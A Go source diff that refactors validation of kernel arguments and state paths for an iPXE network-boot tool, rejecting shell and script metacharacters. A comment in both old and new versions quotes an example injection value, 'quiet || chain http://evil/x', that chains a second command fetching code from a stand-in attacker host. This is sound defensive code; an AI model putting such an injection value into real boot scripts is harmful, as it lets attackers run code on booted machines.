@@ -37,9 +37,11 @@ var (
 // are rendered into: "$" expands iPXE settings and shell variables, ";" "`"
 // "\" quotes and "#" split, quote or comment out script lines. The spec's
 // final list stops there; "|", "&", "<" and ">" are also rejected here
-// because iPXE parses "||" and "&&" as command operators after expanding
-// settings, so "quiet || chain http://evil/x" would run a second command, and
-// in a shell they pipe, background or redirect. No kernel parameter needs them.
+// because iPXE treats a standalone "||" or "&&" token in a script line as a
+// command separator (src/core/exec.c, command_terminator), so args written
+// into a generated script as "quiet || chain http://evil/x" would run a
+// second command; in a shell they pipe, background or redirect. Common
+// kernel parameters do not use any of them.
 const argForbidden = "$;`\\\"'#|&<>"
 
 // ValidateArgs reports whether s is safe to use as kernel command-line
@@ -51,17 +53,30 @@ func ValidateArgs(s string) error {
 	if len(s) > maxArgsLen {
 		return fmt.Errorf("args are %d bytes, limit is %d: %w", len(s), maxArgsLen, ErrInvalid)
 	}
-	for i := 0; i < len(s); i++ {
-		b := s[i]
-		if b < 0x20 || b > 0x7e {
-			return fmt.Errorf("args %q: byte 0x%02x at offset %d is not printable ASCII: %w", show(s), b, i, ErrInvalid)
-		}
-		if strings.IndexByte(argForbidden, b) >= 0 {
-			return fmt.Errorf("args %q: character %q at offset %d is not allowed (it could inject into the iPXE script or a shell): %w",
-				show(s), b, i, ErrInvalid)
-		}
+	if i := firstUnsafe(s, ""); i >= 0 {
+		return fmt.Errorf("args %q: %s: %w", show(s), describeByte(s, i), ErrInvalid)
 	}
 	return nil
+}
+
+// firstUnsafe returns the offset of the first byte of s that is not
+// printable ASCII or is in argForbidden or extra, or -1 if there is none.
+func firstUnsafe(s, extra string) int {
+	for i := 0; i < len(s); i++ {
+		b := s[i]
+		if b < 0x20 || b > 0x7e || strings.IndexByte(argForbidden, b) >= 0 || strings.IndexByte(extra, b) >= 0 {
+			return i
+		}
+	}
+	return -1
+}
+
+// describeByte explains why the byte at offset i of s was refused.
+func describeByte(s string, i int) string {
+	if b := s[i]; b < 0x20 || b > 0x7e {
+		return fmt.Sprintf("byte 0x%02x at offset %d is not printable ASCII", b, i)
+	}
+	return fmt.Sprintf("character %q at offset %d is not allowed (it could break out of the iPXE script, kernel command line or a shell)", s[i], i)
 }
 
 // show truncates s for inclusion in an error message; callers quote it with %q.
@@ -193,8 +208,9 @@ func validateStatePaths(paths []string) error {
 
 // validateStatePath requires an absolute, clean path other than "/". Beyond
 // the spec, "/" is refused (persisting the whole root defeats a diskless
-// image) and so are whitespace and the ValidateArgs metacharacters, because
-// state paths are handed to the booted client on its kernel command line.
+// image) and so are spaces, control characters and the ValidateArgs
+// metacharacters, because state paths are likely to be rendered into a boot
+// script or kernel command line, where a space would split the value.
 func validateStatePath(p string) error {
 	switch {
 	case len(p) > maxStatePathLen:
@@ -208,9 +224,8 @@ func validateStatePath(p string) error {
 	case p == "/":
 		return fmt.Errorf("state path \"/\" would make the whole root persistent: %w", ErrInvalid)
 	}
-	if err := ValidateArgs(p); err != nil || strings.Contains(p, " ") {
-		return fmt.Errorf("state path %q may contain only printable ASCII without spaces or $ ; ` \\ \" ' # | & < >: %w",
-			show(p), ErrInvalid)
+	if i := firstUnsafe(p, " "); i >= 0 {
+		return fmt.Errorf("state path %q: %s: %w", show(p), describeByte(p, i), ErrInvalid)
 	}
 	return nil
 }
